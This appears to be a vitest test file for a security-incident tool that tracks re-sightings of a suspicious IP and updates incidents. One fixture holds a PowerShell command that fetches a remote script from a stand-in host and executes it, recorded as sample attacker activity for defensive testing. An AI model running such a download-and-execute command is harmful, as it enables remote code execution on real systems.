import { describe, expect, it } from 'vitest';
import { hasNewEntities, resightedIncident, resightingComment, resightingNews } from '../../src/sentinel/resighting.js';
import type { SeenRecord } from '../../src/state/stateStore.js';
import { entitiesFromText } from '../../src/entities/entityLists.js';
import { finding, type EntityTexts } from './sentinelFixtures.js';

const prior: SeenRecord = {
  ip: '203.0.113.5',
  incidentId: 'i1',
  generation: 1,
  entities: entitiesFromText({ hosts: ['WEB01.contoso.com'], accounts: ['contoso\\alice'] }),
  commandLines: ['powershell -c iwr http://203.0.113.5/a.ps1 | iex'],
  firstReported: new Date('2024-05-01T10:05:00Z'),
  lastReported: new Date('2024-05-01T10:05:00Z'),
  lastSeen: new Date('2024-05-01T10:00:00Z'),
};
const newsOf = (entities: EntityTexts, commandLines: string[] = []) => ({ entities: entitiesFromText(entities), commandLines, later: false });
const policy = { highSeverityHostCount: 3, indicatorCidrs: [] };

describe('resightingNews', () => {
  it('lists only new hosts, accounts and command lines, names compared case-insensitively', () => {
    const news = resightingNews(
      finding('203.0.113.5', { hosts: ['web01.CONTOSO.com', 'db02'], accounts: ['CONTOSO\\alice', 'CONTOSO\\bob'], commandLines: [...prior.commandLines, 'curl 203.0.113.5'] }),
      prior,
    );
    expect(news).toEqual({ entities: entitiesFromText({ hosts: ['db02'], accounts: ['CONTOSO\\bob'] }), commandLines: ['curl 203.0.113.5'], later: false });
  });

  it('counts only new hosts and accounts as new entities, not new command lines', () => {
    expect(hasNewEntities(newsOf({ hosts: ['db02'] }))).toBe(true);
    expect(hasNewEntities(newsOf({ accounts: ['CONTOSO\\bob'] }))).toBe(true);
    expect(hasNewEntities(newsOf({}, ['curl 203.0.113.5']))).toBe(false);
  });
});

describe('resightingNews against a seen record', () => {
  const a = finding('45.9.148.3', {
    hosts: ['ws1'],
    accounts: ['CONTOSO\\alice'],
    commandLines: ['one', 'two'],
    lastSeen: new Date('2026-11-01T11:00:00Z'),
  });
  const seen = (entities: EntityTexts, lastSeen: string): SeenRecord => ({
    ...prior,
    entities: entitiesFromText(entities),
    commandLines: ['one', 'two'],
    lastSeen: new Date(lastSeen),
  });

  it('reports only hosts, accounts and command lines not reported before, hosts case-insensitively', () => {
    const news = resightingNews(
      finding('45.9.148.3', { hosts: ['WS1', 'ws3'], accounts: ['CONTOSO\\alice'], commandLines: ['two', 'five'], lastSeen: a.lastSeen }),
      seen({ hosts: ['ws1'], accounts: ['contoso\\alice'] }, '2026-11-01T11:00:00Z'),
    );
    expect(news).toEqual({ entities: entitiesFromText({ hosts: ['ws3'], accounts: [] }), commandLines: ['five'], later: false });
  });

  it('notices a later sighting even with nothing else new', () => {
    expect(resightingNews(a, seen({ hosts: ['ws1'], accounts: ['CONTOSO\\alice'] }, '2026-11-01T10:00:00Z')).later).toBe(true);
  });
});

describe('resightingComment', () => {
  it('names what is new and is the same text for the same input', () => {
    const f = finding('203.0.113.5', { hosts: ['db02'], lastSeen: new Date('2024-05-02T00:00:00Z') });
    const text = resightingComment(f, newsOf({ hosts: ['db02'] }, ['a|b']), 'Re-sighting:');
    expect(text).toContain('203.0.113.5 was seen again, last at 2024-05-02T00:00:00.000Z UTC');
    expect(text).toContain('New hosts (1): db02');
    expect(text).toContain('1. a\\|b');
    expect(text).not.toContain('New accounts');
    expect(resightingComment(f, newsOf({ hosts: ['db02'] }, ['a|b']), 'Re-sighting:')).toBe(text);
  });
});

describe('resightedIncident', () => {
  const current = { title: 't', severity: 'Medium' as const, status: 'Active' as const, etag: '"e1"', lastActivityTimeUtc: new Date('2024-05-01T10:00:00Z') };

  it('moves last activity forward and keeps the etag', () => {
    const next = resightedIncident(current, finding('203.0.113.5', { lastSeen: new Date('2024-05-03T00:00:00Z') }), prior, policy, { reopen: false });
    expect(next?.lastActivityTimeUtc).toEqual(new Date('2024-05-03T00:00:00Z'));
    expect(next?.etag).toBe('"e1"');
    expect(next?.status).toBe('Active');
  });

  it('changes nothing when the sighting is not newer', () => {
    expect(resightedIncident(current, finding('203.0.113.5'), prior, policy, { reopen: false })).toBeUndefined();
  });

  it('raises severity to High once the hosts so far reach the threshold', () => {
    const next = resightedIncident(current, finding('203.0.113.5', { hosts: ['db02', 'app03'] }), prior, policy, { reopen: false });
    expect(next?.severity).toBe('High');
  });

  it('reopens as Active and clears the classification', () => {
    const closed = { ...current, status: 'Closed' as const, classification: 'FalsePositive' as const };
    const next = resightedIncident(closed, finding('203.0.113.5'), prior, policy, { reopen: true });
    expect(next?.status).toBe('Active');
    expect(next?.classification).toBeUndefined();
  });
});
